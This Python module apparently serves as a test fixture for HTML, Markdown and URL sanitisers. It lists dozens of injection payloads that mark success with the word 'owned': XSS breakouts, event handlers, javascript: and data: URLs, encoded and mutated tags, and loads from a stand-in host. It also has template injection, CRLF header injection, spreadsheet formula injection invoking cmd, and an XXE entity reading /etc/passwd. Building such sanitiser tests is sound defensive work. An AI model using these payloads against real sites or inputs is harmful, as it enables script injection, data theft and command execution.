"""Text that would run, load or leave if a page took it for markup: each leaves the word OWNED behind wherever it does.

After the OWASP cheat sheet on evading filters, the html5sec collection, and the spellings of URLs and of Markdown.
"""

from __future__ import annotations

MARK = "owned"
RUN = "window.__owned=1,alert(1)"
EVIL = "//owned.invalid"
"""A host that is none (RFC 2606 section 2): whoever asks it has left the origin."""
SCRIPTS = (
    # out of an attribute, of text, of a title, of a script, of a comment
    f"\"><script>{RUN}</script><x-owned x='",
    f"'><script>{RUN}</script><x-owned x=\"",
    f"</title></textarea></style></script><script>{RUN}</script>",
    f"<script>{RUN}</script>",
    f"--!><script>{RUN}</script><!--",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="owned',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='owned",
    f"` onmouseover={RUN} x=`owned",
    f"owned onload={RUN}",
    "<x-owned>owned</x-owned>",
    # elements that run or load by themselves
    f'<img src=x onerror="{RUN}" alt=owned>',
    f"<img/src/onerror={RUN}//owned>",
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>owned",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>owned</text></a></svg>',
    f'<svg><animate attributeName=href values="javascript:{RUN}"/><a id=owned></a></svg>',
    f'<svg><script href="data:text/javascript,{RUN}"/></svg>owned',
    f'<math><maction actiontype="statusline#{EVIL}" xlink:href="javascript:{RUN}">owned</maction></math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;owned">',
    f'<iframe srcdoc="<script>parent.__owned=1</script>"></iframe><iframe src="javascript:parent.{RUN}">owned</iframe>',
    f'<object data="javascript:{RUN}"></object><embed src="{EVIL}/a.swf">owned',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/owned">',
    f'<base href="{EVIL}/owned/">',
    f'<link rel="stylesheet" href="{EVIL}/owned.css"><link rel="import" href="{EVIL}/owned">',
    f'<style>@import "{EVIL}/owned.css"; body{{background:url({EVIL}/owned)}}</style>',
    f'<p style="background:url({EVIL}/owned);width:expression({RUN});behavior:url(#owned)">owned</p>',
    f'<form action="{EVIL}/owned"><input name=csrf><button formaction="javascript:{RUN}">owned</button></form>',
    f"<details open ontoggle={RUN}>owned</details>",
    f"<video autoplay onplay={RUN}><source src=x onerror={RUN}></video>owned",
    f"<body onload={RUN} onpageshow={RUN}>owned",
    f"<marquee onstart={RUN}>owned</marquee>",
    f"<input autofocus onfocus={RUN} value=owned>",
    f'<template><script>{RUN}</script></template><noscript><p title="</noscript><img src=x onerror={RUN}>">owned',
    f"<plaintext>owned<xmp><script>{RUN}</script></xmp>",
    f'<div hx-get="{EVIL}/owned" hx-trigger="load" hx-on:load="{RUN}" data-hx-on="{RUN}">owned</div>',
    f'<a id="owned" name="__owned" href="{EVIL}/owned" ping="{EVIL}/ping">owned</a><img name="owned">',
    f"<ScRiPt/x>{RUN}</sCrIpT\u00a0>owned",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>owned",
    f"\u003cscript\u003e{RUN}\u003c/script\u003e \uff1cscript\uff1eowned\uff1c/script\uff1e",
    f"%3Cscript%3E{RUN}%3C/script%3E owned &lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}&#x3c;/script&#x3e;",
    # addresses that run
    f'<a href="javascript:{RUN}">owned</a>',
    f'<a href=" &#1; jAvA&Tab;sCrIpT&colon;{RUN}">owned</a>',
    f'<a href="&#106;&#x61;vascript&#58;{RUN}">owned</a> <a href="vbscript:owned">owned</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">owned</a> <a href="\\\\\\owned.invalid">owned</a>',
    f"[owned](javascript:{RUN}) [owned](<java script:{RUN}>) [owned](JaVaScRiPt&colon;{RUN})",
    f"[owned](data:text/html,<script>{RUN}</script>) [owned](vbscript:x) ![owned](javascript:{RUN})",
    f'[owned](https://e.invalid/"onmouseover="{RUN}) ![owned" onerror="{RUN}](https://owned.invalid/"onerror="{RUN})',
    f'<javascript:{RUN}> <data:text/html,owned> <https://e.invalid/owned"onclick={RUN}>',
    f"[owned]: javascript:{RUN} [owned] `</code><script>{RUN}</script>` **<b onclick={RUN}>owned</b>**",
    # other languages than HTML
    "{{ 7*7 }}{{ config.__class__ }}{% raw %}{% endraw %}{# owned #}${7*7}<%= owned %>#{owned}",
    "%%slot.unsubscribe%%%%unsubscribe%%%%owned%% [[owned]] *|OWNED|* {owned}",
    f'\\"}}]}};{RUN};//</script>{{"owned":[{{"x":"]]>\u2028{RUN}',
    f"$\\href{{javascript:{RUN}}}{{owned}}$ $\\unicode{{<script>{RUN}</script>}}$ $$\\text{{</math><script>{RUN}</script>}}$$",
    f"owned\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>",
    f"owned\tformula =HYPERLINK(\"{EVIL}/owned\") @SUM(1) +cmd|' /C calc'!A0",
    f"\u202eowned\u202d\u2066<script>{RUN}</script>\u2069\u200b\ufeff",
    f']]><![CDATA[<script>{RUN}</script>]]><?xml-stylesheet href="javascript:{RUN}"?><!DOCTYPE x [<!ENTITY owned SYSTEM "file:///etc/passwd">]>&owned;',
)  # fmt: skip
ADDRESSES = (
    f"https://owned.invalid/'onmouseover='{RUN}",
    f"https://owned.invalid/%22%3E%3Cscript%3E{RUN}%3C/script%3E",
    f"https://e.invalid/owned#javascript:{RUN}",
    f"https://javascript:{RUN}@owned.invalid/",
    f"https://e.invalid/owned{{{{7*7}}}}%%slot%%?a=1&lt;script&gt;{RUN}&lt;/script&gt;",
    f"mailto:owned@e.invalid?subject=%3Cscript%3E'onclick='{RUN}",
    "HTTPS://OWNED.INVALID/&quot;onclick=&quot;x",
)
"""Of the web and of mail, and meant to break out of where an address stands."""
JOINED = " ".join(SCRIPTS)
"""All in one text; what swallows the rest stands behind what breaks out."""
BACKWARDS = " ".join(reversed(SCRIPTS))
assert all(MARK in script.lower() for script in SCRIPTS)
